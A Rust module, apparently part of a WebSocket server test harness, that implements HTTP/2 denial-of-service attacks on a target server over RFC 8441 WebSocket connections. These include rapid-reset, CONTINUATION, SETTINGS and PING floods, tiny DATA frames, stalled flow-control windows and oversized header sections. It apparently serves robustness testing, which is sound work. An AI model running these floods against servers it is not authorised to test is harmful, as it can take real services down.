//! Attacks on the connection beneath a WebSocket of HTTP/2 (RFC 8441): floods of frames that cost
//! the sender little, and windows that are never opened.

use std::time::Duration;

use tokio::time::{Instant, timeout};

use super::{Ending, KIB, MIB, PATIENCE};
use crate::arena::{Arena, Refused};
use crate::link::Kind;
use crate::link::fragmented;
use crate::wire::frame::Frame;
use crate::wire::hpack::{block, read_block};
use crate::wire::raw_h2::{H2Frame, RawH2, flag, frame, kind};
use crate::wire::stream::Wire;
use crate::wire::tls;

/// Runs the attack of this name, if there is one. What has to fill the buffers of two sockets has its
/// whole size at every scale.
pub(super) async fn attack(
    name: &str,
    arena: &Arena,
    scale: usize,
) -> Option<Result<Ending, Refused>> {
    let name = name.strip_prefix("h2 ")?;
    Some(run(name, arena, scale).await)
}

async fn run(name: &str, arena: &Arena, scale: usize) -> Result<Ending, Refused> {
    let mut site = Site::begin(arena, if name.contains("window") { 0 } else { 1 << 20 }).await?;
    Ok(match name {
        "resets" => site.resets(100_000 / scale).await,
        "header continuations" => site.continuations(100_000 / scale).await,
        "settings" => site.unread(&frame(kind::SETTINGS, 0, 0, &[]), 1_000_000).await,
        "pings" => site.unread(&frame(kind::PING, 0, 0, &[7; 8]), 1_000_000).await,
        "empty data" => {
            let id = site.open().await?;
            site.flood(&frame(kind::DATA, 0, id, &[]), 500_000 / scale).await
        }
        "one-octet data" => {
            // A message of which each DATA frame carries an octet.
            let id = site.open().await?;
            let head = Frame::binary(vec![7; MIB / scale]).encode(true);
            let (head, _) = head.split_at(14);
            site.send(&frame(kind::DATA, 0, id, head)).await;
            site.flood(&frame(kind::DATA, 0, id, &[7]), MIB / scale).await
        }
        "window of one octet" => site.dribble(2000).await?,
        "window never opened" => site.stall().await?,
        "streams that say nothing" => site.half_requests(100_000 / scale).await,
        "connection that says nothing" => site.wait(PATIENCE).await,
        "oversized field section" => {
            let fields: Vec<(String, String)> =
                (0..4 * KIB / scale).map(|n| (format!("x-{n}"), "*".repeat(KIB))).collect();
            let section = [block(&site.fields), block(&fields)].concat();
            site.section(&section).await
        }
        other => {
            return Err(Refused::NoConnection(format!("there is no attack h2 {other:?}")));
        }
    })
}

/// A connection of HTTP/2 to the server under attack.
struct Site {
    raw: RawH2,
    fields: Vec<(String, String)>,
    sent: usize,
    /// The code of the server's GOAWAY.
    goaway: Option<u32>,
    /// Octets of DATA that came.
    came: usize,
    last: Option<H2Frame>,
}

impl Site {
    async fn begin(arena: &Arena, window: u32) -> Result<Self, Refused> {
        let (target, stream) = (arena.target()?, arena.dial_tcp().await?);
        let wire = if target.secure {
            Wire::new(tls::connect(&target.host, stream, "h2").await?)
        } else {
            Wire::new(stream)
        };
        let deadline = Instant::now() + arena.settings.wait;
        let begun = RawH2::begin(wire, arena.log.clone(), window, deadline).await;
        let fields = [
            (":method", "CONNECT"),
            (":protocol", "websocket"),
            (":scheme", if target.secure { "https" } else { "http" }),
            (":authority", &target.authority()),
            (":path", &target.path),
            ("sec-websocket-version", "13"),
        ];
        let fields = fields.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
        let raw = begun.map_err(Refused::NoConnection)?;
        Ok(Self { raw, fields, sent: 0, goaway: None, came: 0, last: None })
    }

    async fn send(&mut self, octets: &[u8]) -> bool {
        let taken = self.raw.send_octets(octets).await;
        self.sent += if taken { octets.len() } else { 0 };
        taken
    }

    /// Opens a WebSocket on stream 1.
    async fn open(&mut self) -> Result<u32, Refused> {
        let request = frame(kind::HEADERS, flag::END_HEADERS, 1, &block(&self.fields));
        self.send(&request).await;
        let opened = self.read_until(Instant::now() + PATIENCE, |frame| {
            let status = |(name, value): &(String, String)| name == ":status" && value == "200";
            frame.kind == kind::HEADERS && read_block(&frame.payload).iter().any(status)
        });
        if opened.await { Ok(1) } else { Err(Refused::NoConnection(self.end())) }
    }

    /// Reads until a frame is the one, the end, or the deadline.
    async fn read_until(&mut self, deadline: Instant, wanted: impl Fn(&H2Frame) -> bool) -> bool {
        while self.goaway.is_none() {
            let Some(frame) = self.raw.next(deadline).await else { return false };
            if frame.kind == kind::GOAWAY {
                self.goaway = Some(frame.number(4));
            }
            if frame.kind == kind::DATA {
                self.came += frame.payload.len();
            }
            let found = wanted(&frame);
            self.last = Some(frame);
            if found {
                return true;
            }
        }
        false
    }

    fn is_over(&self) -> bool {
        self.goaway.is_some() || self.raw.has_ended()
    }

    fn end(&self) -> String {
        match (self.goaway, &self.last) {
            (Some(code), _) => format!("GOAWAY {code}"),
            (None, Some(frame)) if frame.kind == kind::RST_STREAM => {
                format!("RST_STREAM {}", frame.number(0))
            }
            (None, _) if self.raw.has_ended() => "cut".into(),
            (None, _) => "open".into(),
        }
    }

    async fn wait(&mut self, patience: Duration) -> Ending {
        let reset = |frame: &H2Frame| frame.kind == kind::RST_STREAM;
        self.read_until(Instant::now() + patience, reset).await;
        Ending::new(self.sent, self.end())
    }

    /// Sends the frame again and again, reading what comes.
    async fn flood(&mut self, one: &[u8], count: usize) -> Ending {
        let batch = (16 * KIB / one.len()).clamp(1, count);
        let octets = one.repeat(batch);
        for _ in 0..count.div_ceil(batch) {
            if self.is_over() || !self.send(&octets).await {
                break;
            }
            self.read_until(Instant::now(), |_| false).await;
        }
        self.wait(Duration::from_secs(1)).await
    }

    /// The same without reading the answers.
    async fn unread(&mut self, one: &[u8], count: usize) -> Ending {
        let octets = one.repeat(1000);
        let (total, mut offset) = (one.len() * count, 0);
        while self.sent < total {
            let rest = octets.get(offset..).unwrap_or_default();
            let write = self.raw.write_blindly(rest);
            match timeout(Duration::from_secs(2), write).await {
                Ok(Ok(written @ 1..)) => {
                    self.sent += written;
                    offset = (offset + written) % octets.len();
                }
                Ok(_) => break,
                Err(_) => return Ending::new(self.sent, "held back"),
            }
        }
        self.wait(Duration::from_secs(1)).await
    }

    /// Opens a WebSocket and resets it, again and again.
    async fn resets(&mut self, count: usize) -> Ending {
        let section = block(&self.fields);
        for batch in 0..count.div_ceil(100) {
            let mut octets = Vec::new();
            for number in 0..100 {
                let id = u32::try_from((batch * 100 + number) * 2 + 1).unwrap_or(u32::MAX);
                octets.extend(frame(kind::HEADERS, flag::END_HEADERS, id, &section));
                octets.extend(frame(kind::RST_STREAM, 0, id, &8u32.to_be_bytes()));
            }
            if self.is_over() || !self.send(&octets).await {
                break;
            }
            self.read_until(Instant::now(), |_| false).await;
        }
        // The resets of refused streams may be many; a GOAWAY is behind them.
        self.read_until(Instant::now() + Duration::from_secs(1), |_| false).await;
        Ending::new(self.sent, self.end())
    }

    /// A field section that never ends.
    async fn continuations(&mut self, count: usize) -> Ending {
        let first = frame(kind::HEADERS, 0, 1, &block(&self.fields));
        self.send(&first).await;
        let fields = [("x".to_owned(), "*".repeat(KIB))];
        self.flood(&frame(kind::CONTINUATION, 0, 1, &block(&fields)), count).await
    }

    /// A whole field section, in as many frames as it takes.
    async fn section(&mut self, section: &[u8]) -> Ending {
        let pieces = section.chunks(16 * KIB);
        let last = pieces.len() - 1;
        for (number, piece) in pieces.enumerate() {
            let kind = if number == 0 { kind::HEADERS } else { kind::CONTINUATION };
            let flags = if number == last { flag::END_HEADERS } else { 0 };
            if self.is_over() || !self.send(&frame(kind, flags, 1, piece)).await {
                break;
            }
            self.read_until(Instant::now(), |_| false).await;
        }
        self.read_until(Instant::now() + PATIENCE, |frame| {
            matches!(frame.kind, kind::RST_STREAM | kind::HEADERS)
        })
        .await;
        let end = match &self.last {
            Some(answer) if answer.kind == kind::HEADERS => {
                let fields = read_block(&answer.payload);
                let status = fields.into_iter().find(|(name, _)| name == ":status");
                status.map_or_else(|| "answered".into(), |(_, value)| value)
            }
            _ => self.end(),
        };
        Ending::new(self.sent, end)
    }

    /// As many streams as it takes, each with a field section that is never finished.
    async fn half_requests(&mut self, count: usize) -> Ending {
        // Only one stream may have an unfinished section: these are whole, and say nothing more.
        let section = block(&self.fields);
        for number in 0..count {
            let id = u32::try_from(number * 2 + 1).unwrap_or(u32::MAX);
            let request = frame(kind::HEADERS, flag::END_HEADERS, id, &section);
            if self.is_over() || !self.send(&request).await {
                break;
            }
            self.read_until(Instant::now(), |_| false).await;
        }
        self.read_until(Instant::now() + Duration::from_secs(1), |_| false).await;
        Ending::new(self.sent, self.end())
    }

    /// Has a message echoed into a window that opens by an octet at a time.
    async fn dribble(&mut self, times: usize) -> Result<Ending, Refused> {
        let id = self.open().await?;
        self.echo_into_nothing(id).await;
        let one = frame(kind::WINDOW_UPDATE, 0, id, &1u32.to_be_bytes());
        for _ in 0..times {
            let before = self.came;
            if self.is_over() || !self.send(&one).await {
                break;
            }
            self.read_until(Instant::now() + PATIENCE, |frame| frame.kind == kind::DATA).await;
            if self.came == before {
                break;
            }
        }
        let end = if self.is_over() { self.end() } else { format!("{} octets came", self.came) };
        Ok(Ending::new(self.sent, end))
    }

    /// Has a message echoed into a window that never opens.
    async fn stall(&mut self) -> Result<Ending, Refused> {
        let id = self.open().await?;
        self.echo_into_nothing(id).await;
        Ok(self.wait(PATIENCE).await)
    }

    async fn echo_into_nothing(&mut self, id: u32) {
        for piece in fragmented(Kind::Binary, &vec![7; 60 * KIB], 8 * KIB) {
            let data = frame(kind::DATA, 0, id, &piece.encode(true));
            self.send(&data).await;
        }
    }
}
